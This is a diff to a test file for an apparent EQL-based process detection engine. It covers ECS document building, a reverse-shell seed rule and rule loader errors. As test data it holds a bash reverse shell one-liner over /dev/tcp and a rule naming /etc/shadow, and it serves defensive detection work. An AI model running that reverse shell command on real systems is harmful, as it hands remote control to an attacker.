@@ -2,6 +2,8 @@ import { mkdtempSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
+import { entityId } from "../../../src/process/ecs-process.js";
+import { ecsHost } from "../../../src/rules/elastic/ecs-host.js";
 import type { ProcessInfo, ProcessView, RuleContext } from "../../../src/engine/rule.js";
 import type { ExecEvent } from "../../../src/sensor/events.js";
 import { compileEql, getField } from "../../../src/eql/compile.js";
@@ -53,16 +55,16 @@ describe("ECS exec document", () => {
     const doc = buildExecEcsDocument(execEvent("/usr/bin/nohup", ["nohup", "sleep", "1"]), shellParent);
     expect(doc).toEqual({
       event: { category: ["process"], type: ["start"], action: "exec", kind: "event" },
-      host: { os: { type: "linux" } },
+      host: ecsHost(),
       process: {
         pid: 200,
-        entity_id: "200-2",
+        entity_id: entityId(200, 2),
         name: "nohup",
         executable: "/usr/bin/nohup",
         args: ["nohup", "sleep", "1"],
         args_count: 3,
         command_line: "nohup sleep 1",
-        parent: { pid: 100, name: "bash", entity_id: "100-1", executable: "/usr/bin/bash", args: ["bash"], args_count: 1, command_line: "bash" },
+        parent: { pid: 100, name: "bash", entity_id: entityId(100, 1), executable: "/usr/bin/bash", args: ["bash"], args_count: 1, command_line: "bash" },
         real_user: { id: "1000" },
         real_group: { id: "1000" },
       },
@@ -125,7 +127,9 @@ describe("seed rule: Potential Reverse Shell via Background Process", () => {
   });
 
   it("an exec of another program is decided without building its ECS document", () => {
-    expect([...loaded!.rule!.compiled.requiredValues("process.name")!.values].sort()).toEqual(["nohup", "setsid"]);
+    const compiled = loaded!.rule!.compiled;
+    if (compiled.kind !== "event") throw new Error("the seed rule is a single-event rule");
+    expect([...compiled.requiredValues("process.name")!.values].sort()).toEqual(["nohup", "setsid"]);
     let lookups = 0;
     const counting: ProcessView = { get: (pid) => (lookups++, shellParent.get(pid)), ancestors: () => [] };
     expect(fires(execEvent("/usr/bin/ls", ["ls", "bash -i >& /dev/tcp/h/1 0>&1"]), counting)).toBe(false);
@@ -202,11 +206,19 @@ describe("loader errors", () => {
     ["syntax.toml", rule('process where\nprocess.name == "a" and and'), /^.*syntax\.toml:12: EQL: .* \(query 2:25\)$/],
     [
       "sequence.toml",
-      rule("sequence by process.entity_id\n [process where true]\n [network where true]", ""),
-      /^.*sequence\.toml:11: EQL: sequence queries are not supported.*\(query 1:1\)$/,
+      rule("sequence by process.entity_id\n [process where true]\n [network where true] with runs=0", ""),
+      /^.*sequence\.toml:13: EQL: runs must be an integer from 1 to 100 \(query 3:23\)$/,
     ],
+    [
+      "sample.toml",
+      rule("sample by host.id\n [process where true]\n [network where true]", ""),
+      /^.*sample\.toml:11: EQL: sample queries are not supported.*\(query 1:1\)$/,
+    ],
+    ["nesting.toml", rule(`process where ${"(".repeat(3000)}true${")".repeat(3000)}`), /^.*nesting\.toml:11: EQL: nested deeper than 100 levels \(query 1:\d+\)$/],
+    ["nots.toml", rule(`process where ${"not ".repeat(100_000)}true`), /^.*nots\.toml:11: EQL: nested deeper than 100 levels/],
+    ["escape.toml", rule('process where process.name == "\\u{110000}"'), /^.*escape\.toml:11: EQL: \\u\{…\} escape beyond U\+10FFFF in string \(query 1:32\)$/],
     ["kuery.toml", rule("process.name : x").replace('language = "eql"', 'language = "kuery"'), /kuery\.toml: language "kuery" is not supported/],
-    ["network.toml", rule('network where destination.port == 4444'), /network\.toml: event category "network" is not supported/],
+    ["file.toml", rule('file where file.path == "/etc/shadow"'), /file\.toml: event category "file" is not supported \(only process, network, any\)/],
     ["noid.toml", rule('process where true == true').replace('rule_id = "r1"\n', ""), /noid\.toml: invalid rule file: rule\.rule_id: Required$/],
   ];
 
